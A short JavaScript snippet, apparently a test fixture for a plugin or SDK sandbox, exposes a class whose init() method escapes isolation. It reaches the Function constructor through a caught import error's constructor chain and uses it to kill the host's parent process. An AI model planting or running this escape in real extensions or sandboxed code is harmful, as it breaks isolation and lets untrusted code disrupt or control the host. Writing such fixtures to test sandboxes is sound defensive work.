expose(
  class extends Sdk {
    init() {
      import('').catch((error) => {
        error.constructor.constructor('process.kill(process.ppid)')();
      });
    }
  },
);
